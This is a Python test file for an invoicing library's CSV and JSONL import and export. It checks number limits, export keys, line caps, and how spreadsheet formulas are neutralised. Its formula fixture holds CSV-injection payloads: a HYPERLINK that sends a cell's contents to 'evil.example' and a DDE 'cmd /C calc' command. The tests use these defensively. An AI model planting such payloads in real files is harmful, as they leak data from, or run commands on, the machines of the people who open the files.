"""Review 37, the file formats: numbers too large to write out are refused by the readers with
their line and column; the CSV export keys invoices by id, so invoices sharing a number stay
apart and a re-import finds each; text cells that a spreadsheet would run as a formula are
neutralised on export and restored on import; a row with extra cells keeps them all; no line
is read whole past the reader's cap."""

from __future__ import annotations

import csv
import json
import tracemalloc
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from invoceanio import InvoiceOcean, cli
from invoceanio.formats import (
    InputFileError,
    InvoiceWriter,
    RowError,
    read_invoices,
)
from invoceanio.formats import csv_reader as csv_reader_module
from invoceanio.formats import jsonl_reader as jsonl_reader_module
from invoceanio.formats.csv_reader import neutralise_formula, restore_formula
from invoceanio.formats.fields import MAX_EXPONENT, POSITION_FIELDS
from invoceanio.importer import ImportItem
from invoceanio.models import Invoice, structure
from invoceanio.sandbox.server import Sandbox

from .conftest import CANARY_TOKEN, HEADER, Run, failures, invoice, write_csv, write_jsonl

HUGE = "1e999999999999999999"


def read_all(path: Path) -> list[ImportItem | RowError]:
    with read_invoices(path) as reader:
        return list(reader)


def exported(tmp_path: Path, *invoices: Invoice, **options: Any) -> Path:
    out = tmp_path / "export.csv"
    with InvoiceWriter(out, **options) as writer:
        for one in invoices:
            writer.write(one)
        writer.commit()
    return out


def an_invoice(id_: int | None, **fields: Any) -> Invoice:
    data: dict[str, Any] = {
        "number": "FV 1/01/2026",
        "kind": "vat",
        "issue_date": "2026-01-02",
        "buyer_name": "ACME",
        "positions": [
            {"name": f"item of {id_}", "tax": "23", "quantity": "1", "total_price_gross": "10.00"}
        ],
    }
    if id_ is not None:
        data["id"] = id_
    data.update(fields)
    result: Invoice = structure(data, Invoice)
    return result


# --- 1. numbers too large to write out -------------------------------------------------------


@pytest.mark.parametrize(
    "text", [HUGE, "-1e999999999999999999", "1e-999999999999", "0E-5000", "1e1001", "1e-1001"]
)
def test_a_number_too_large_to_write_out_is_refused_by_the_field_reader(text: str) -> None:
    with pytest.raises(ValueError, match="out of range"):
        POSITION_FIELDS["total_price_gross"](text)


@pytest.mark.parametrize("text", ["1e1000", "1e-1000", "-12.50", "0.000001", "123456789.123"])
def test_numbers_within_the_range_are_read_as_they_were(text: str) -> None:
    assert POSITION_FIELDS["total_price_gross"](text) == Decimal(text)
    assert MAX_EXPONENT == 1000


def test_a_tax_rate_with_a_huge_exponent_is_not_a_tax_rate() -> None:
    with pytest.raises(ValueError, match="is not a tax rate"):
        POSITION_FIELDS["tax"]("1e-999999999999")


def test_a_csv_cell_with_a_huge_exponent_is_a_row_error_naming_its_line_and_column(
    tmp_path: Path,
) -> None:
    path = write_csv(
        tmp_path / "a.csv",
        "A-1,ACME,,Thing,1,23,10.00",
        f"A-2,ACME,,Thing,1,23,{HUGE}",
        "A-3,ACME,,Thing,1,23,30.00",
    )
    first, bad, last = read_all(path)
    assert isinstance(first, ImportItem)
    assert isinstance(last, ImportItem)
    assert isinstance(bad, RowError)
    assert bad.source == "line 3"
    assert bad.error.startswith("line 3: position_total_price_gross: ")
    assert "out of range" in bad.error
    assert bad.data == [
        {
            "invoice_key": "A-2",
            "buyer_name": "ACME",
            "position_name": "Thing",
            "position_quantity": "1",
            "position_tax": "23",
            "position_total_price_gross": HUGE,
        }
    ]


@pytest.mark.parametrize(
    ("position", "where"),
    [
        ({"total_price_gross": Decimal(HUGE)}, "positions[1].total_price_gross"),
        ({"total_price_gross": "10", "custom_amount": Decimal(HUGE)}, "positions[1].custom_amount"),
        ({"total_price_gross": HUGE}, "positions[1].total_price_gross"),
    ],
)
def test_a_jsonl_number_with_a_huge_exponent_is_a_row_error_and_the_reading_goes_on(
    tmp_path: Path, position: dict[str, Any], where: str
) -> None:
    bad = invoice()
    bad["positions"][0].update(position)
    line = json.dumps(bad, default=lambda value: float("inf")).replace("Infinity", HUGE)
    path = write_jsonl(tmp_path / "a.jsonl", [invoice("A"), line, invoice("C")])
    first, error, last = read_all(path)
    assert isinstance(first, ImportItem)
    assert isinstance(last, ImportItem)
    assert isinstance(error, RowError)
    assert error.source == "line 2"
    assert f"line 2: {where}: " in error.error
    assert "out of range" in error.error
    assert error.data is not None


def test_a_jsonl_line_the_writing_refuses_is_a_row_error_not_the_end_of_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The identity check writes each invoice without an oid as it is sent: whatever that
    raises (here a ValueError, as the models will for a number out of range) is that line's
    problem, and the lines after it are read."""

    def refuse(data: Any, name: str) -> Any:
        raise ValueError("not writable")

    monkeypatch.setattr(jsonl_reader_module, "as_document", refuse)
    path = write_jsonl(tmp_path / "a.jsonl", [invoice(), invoice(buyer_name="B")])
    first, second = read_all(path)
    assert isinstance(first, RowError)
    assert isinstance(second, RowError)
    assert "line 1: cannot be written as the API takes it: ValueError: not writable" in first.error


def test_a_jsonl_dry_run_with_a_huge_exponent_reports_the_line_and_exits_1(
    tmp_path: Path, run: Callable[..., Run]
) -> None:
    line = json.dumps(invoice()).replace('"246"', HUGE)
    path = write_jsonl(tmp_path / "in.jsonl", [invoice(buyer_name="A"), line])
    failed = tmp_path / "f.jsonl"
    result = run("import", path, "--dry-run", "--failures", failed)
    assert result.code == 1, result
    assert "Traceback" not in result.err
    assert "ready to send:  1 invoice" in result.out
    (record,) = failures(failed)
    assert (record["source"], record["line"], record["stage"]) == ("line 2", 2, "file")
    assert "out of range" in record["error"]
    assert record["data"] is not None


# --- 2. the export key -----------------------------------------------------------------------


def test_two_invoices_sharing_a_number_export_to_two_invoices(tmp_path: Path) -> None:
    out = exported(tmp_path, an_invoice(101, department_id=1), an_invoice(102, department_id=2))
    items = read_all(out)
    assert [type(item) for item in items] == [ImportItem, ImportItem]
    assert [item.key for item in items if isinstance(item, ImportItem)] == ["id-101", "id-102"]
    names = [
        [position["name"] for position in item.data["positions"]]
        for item in items
        if isinstance(item, ImportItem) and isinstance(item.data, dict)
    ]
    assert names == [["item of 101"], ["item of 102"]]


def test_a_yearly_number_pattern_restarting_exports_every_invoice(tmp_path: Path) -> None:
    out = exported(
        tmp_path,
        an_invoice(1, number="FV 1", issue_date="2025-01-02"),
        an_invoice(2, number="FV 1", issue_date="2026-01-02"),
    )
    items = read_all(out)
    assert all(isinstance(item, ImportItem) for item in items), items
    assert [item.data["issue_date"].isoformat() for item in items] == [  # type: ignore[index]
        "2025-01-02",
        "2026-01-02",
    ]


def test_the_invoice_key_is_the_id_and_the_oid_goes_in_its_own_column(tmp_path: Path) -> None:
    out = exported(tmp_path, an_invoice(7, oid="ORD-7"), an_invoice(8))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [(row["invoice_key"], row["oid"]) for row in rows] == [("id-7", "ORD-7"), ("id-8", "")]
    first, second = read_all(out)
    assert isinstance(first, ImportItem)
    assert isinstance(second, ImportItem)
    assert isinstance(first.data, dict)
    assert first.data["oid"] == "ORD-7"  # the import sends it under its own oid
    assert second.key == "id-8"  # and one without an oid under its key


def test_an_invoice_without_an_id_is_keyed_by_its_oid_else_its_number(tmp_path: Path) -> None:
    out = exported(
        tmp_path, an_invoice(None, oid="ORD-1"), an_invoice(None, number="FV 9"), an_invoice(None)
    )
    keys = [row["invoice_key"] for row in csv.DictReader(out.open(encoding="utf-8"))]
    assert keys[:2] == ["ORD-1", "FV 9"]


def test_two_invoices_sharing_an_oid_are_not_merged_but_the_second_is_reported(
    tmp_path: Path,
) -> None:
    out = exported(tmp_path, an_invoice(1, oid="SAME"), an_invoice(2, oid="SAME"))
    first, second = read_all(out)
    assert isinstance(first, ImportItem)
    assert isinstance(second, RowError)
    assert "oid 'SAME' is already the oid" in second.error


async def test_an_exported_csv_with_shared_numbers_imports_every_invoice_once_and_again_none(
    tmp_path: Path, sandbox: Sandbox, run_async: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    async with InvoiceOcean(base_url=sandbox.url, api_token=CANARY_TOKEN) as io:
        for department in (1, 2):  # each department's series starts at the same number
            record = invoice(number="FV 1/01/2026", issue_date="2026-01-02")
            record["positions"][0]["name"] = f"of department {department}"
            await io.invoices.create(record)  # no oid: the export keys it by itself
    out = tmp_path / "export.csv"
    assert (await run_async("export", "--out", out, "--base-url", sandbox.url)).code == 0
    async with Sandbox(token="other-account") as other:
        monkeypatch.setenv(cli.TOKEN_VARIABLE, "other-account")
        first = await run_async("import", out, "--base-url", other.url)
        assert first.code == 0, first
        assert "created:          2" in first.out
        again = await run_async("import", out, "--base-url", other.url)
        assert again.code == 0, again
        assert "already existed:  2" in again.out
        records = other.store.records("invoices")
        assert len(records) == 2
        assert sorted(
            position["name"] for record in records for position in record["positions"]
        ) == ["of department 1", "of department 2"]


# --- 3. formulas -----------------------------------------------------------------------------

HOSTILE = {
    "buyer_name": '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "buyer_city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "buyer_street": "+1+1",
    "buyer_post_code": "\t=1",
    "buyer_note": "'=already quoted",
    "description": "''=twice",
    "place": "'plain quote",
    "seller_name": "-",
}


def test_text_cells_that_would_be_formulas_are_neutralised_in_the_export(tmp_path: Path) -> None:
    hostile = structure(
        {
            "id": 1,
            **HOSTILE,
            "positions": [
                {"name": "-2+3", "tax": "23", "quantity": "1", "total_price_gross": "-12.50"}
            ],
        },
        Invoice,
    )
    out = exported(tmp_path, hostile)
    (row,) = csv.DictReader(out.open(encoding="utf-8"))
    for column in ("buyer_name", "buyer_city", "buyer_street", "buyer_post_code", "seller_name"):
        assert row[column][0] == "'", column
        assert row[column][1:] == HOSTILE[column]
    assert row["position_name"] == "'-2+3"
    assert row["buyer_note"] == "''=already quoted"
    assert row["place"] == "'plain quote"  # read back as it is: nothing to add
    assert row["position_total_price_gross"] == "-12.50"  # a number stays a number
    assert row["position_quantity"] == "1"


def test_a_neutralised_export_imports_back_exactly(tmp_path: Path) -> None:
    hostile = structure(
        {
            "id": 1,
            **HOSTILE,
            "positions": [
                {"name": "-2+3", "tax": "23", "quantity": "1", "total_price_gross": "-12.50"}
            ],
        },
        Invoice,
    )
    (item,) = read_all(exported(tmp_path, hostile))
    assert isinstance(item, ImportItem)
    assert isinstance(item.data, dict)
    for column, text in HOSTILE.items():
        assert item.data[column] == text.strip(), column  # the reader strips every text
    assert item.data["positions"][0]["name"] == "-2+3"
    assert item.data["positions"][0]["total_price_gross"] == Decimal("-12.50")


def test_the_identity_columns_are_written_and_read_exactly(tmp_path: Path) -> None:
    # A quote taken off an oid or a key makes it another one: a re-import of a file that held
    # one (hand-made, or exported before neutralising existed) would create its invoices again.
    out = exported(tmp_path, an_invoice(1, oid="=ORDER-1", buyer_name="=1+1"))
    (row,) = csv.DictReader(out.open(encoding="utf-8"))
    assert (row["invoice_key"], row["oid"], row["buyer_name"]) == ("id-1", "=ORDER-1", "'=1+1")
    (item,) = read_all(out)
    assert isinstance(item, ImportItem) and isinstance(item.data, dict)
    assert (item.data["oid"], item.data["buyer_name"]) == ("=ORDER-1", "=1+1")

    hand_made = tmp_path / "hand.csv"
    hand_made.write_text(
        "invoice_key,oid,buyer_name,position_name,position_tax,position_quantity,"
        "position_total_price_gross\n"
        "K1,'-PROMO-7,Klient A,Towar,23,1,12.30\n"
        "'=K2,,Klient B,Towar,23,1,12.30\n",
        encoding="utf-8",
    )
    first, second = read_all(hand_made)
    assert isinstance(first, ImportItem) and isinstance(second, ImportItem)
    assert isinstance(first.data, dict) and first.data["oid"] == "'-PROMO-7"
    assert second.key == "'=K2"


def test_neutralising_can_be_turned_off(tmp_path: Path) -> None:
    out = exported(tmp_path, an_invoice(1, buyer_name="=1+1"), neutralise_formulas=False)
    (row,) = csv.DictReader(out.open(encoding="utf-8"))
    assert row["buyer_name"] == "=1+1"


@given(st.text(max_size=12, alphabet=st.sampled_from("'=+-@\t\rab ")) | st.text(max_size=12))
def test_restoring_a_neutralised_text_gives_it_back(text: str) -> None:
    cell = neutralise_formula(text)
    assert restore_formula(cell) == text
    assert cell[:1] not in csv_reader_module.FORMULA_STARTS


# --- 5. a row with more cells than columns ---------------------------------------------------


def test_a_row_with_extra_cells_keeps_every_value_and_says_how_many(tmp_path: Path) -> None:
    header = (
        "invoice_key,buyer_name,position_name,position_tax,position_quantity,"
        "position_total_price_gross"
    )
    path = write_csv(tmp_path / "a.csv", "K-1,ACME, Inc.,Consulting,23,2,1234.56", header=header)
    (item,) = read_all(path)
    assert isinstance(item, RowError)
    assert item.error == (
        "line 2: 7 values but the header has 6 columns (a separator inside a value that is not "
        "quoted?)"
    )
    assert item.data == [{"cells": ["K-1", "ACME", " Inc.", "Consulting", "23", "2", "1234.56"]}]


def test_a_row_with_too_few_cells_keeps_them_in_order(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", "K-1,ACME,,X,1,23,10", "K-1,,X,1")
    (item,) = read_all(path)
    assert isinstance(item, RowError)
    assert item.error == (
        "line 3: 4 values but the header has 7 columns (a value or its separator missing?)"
    )
    assert item.data[1] == {"cells": ["K-1", "", "X", "1"]}


# --- 8. no line read whole past the cap ------------------------------------------------------


def test_a_bare_cr_csv_stops_at_the_line_cap_naming_the_line_before_holding_the_file(
    tmp_path: Path,
) -> None:
    path = tmp_path / "mac.csv"
    rows = "".join(f"K-{n},ACME,,X,1,23,10.50\r" for n in range(200_000))  # ~5 MB, one line
    path.write_text(HEADER + "\r" + rows, encoding="utf-8")
    tracemalloc.start()
    try:
        with pytest.raises(InputFileError) as raised:
            read_all(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "line 1: longer than 1 MiB" in str(raised.value)
    assert "bare CR" in str(raised.value)
    assert peak < 3 * csv_reader_module.MAX_LINE_BYTES + 1_000_000


def test_a_long_csv_line_further_down_is_refused_with_its_line(tmp_path: Path) -> None:
    long_name = "x" * (csv_reader_module.MAX_LINE_BYTES + 10)
    path = write_csv(tmp_path / "a.csv", "K-1,ACME,,X,1,23,10", f"K-2,ACME,,{long_name},1,23,10")
    with pytest.raises(InputFileError, match="line 3: longer than 1 MiB"):
        read_all(path)


def test_a_jsonl_line_over_the_cap_is_a_row_error_and_the_next_lines_are_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(jsonl_reader_module, "MAX_LINE_BYTES", 4096)
    array = json.dumps([invoice()] * 200)  # a JSON array saved as .jsonl: one long line
    path = write_jsonl(tmp_path / "a.jsonl", [array, invoice("B"), array, invoice("D")])
    tracemalloc.start()
    try:
        items = read_all(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [type(item) for item in items] == [RowError, ImportItem, RowError, ImportItem]
    first, _, third, _ = items
    assert isinstance(first, RowError)
    assert isinstance(third, RowError)
    assert (first.source, third.source) == ("line 1", "line 3")
    assert first.error.startswith("line 1: longer than 4 KiB")
    assert "JSON array" in first.error
    assert isinstance(first.data, str)
    assert array.startswith(first.data)
    assert len(first.data) <= 1000
    assert peak < 1_000_000


def test_the_default_jsonl_cap_takes_a_large_invoice(tmp_path: Path) -> None:
    big = invoice()
    big["positions"] = [dict(big["positions"][0], name=f"item {n}") for n in range(10_000)]
    path = write_jsonl(tmp_path / "a.jsonl", [big])
    (item,) = read_all(path)
    assert isinstance(item, ImportItem)
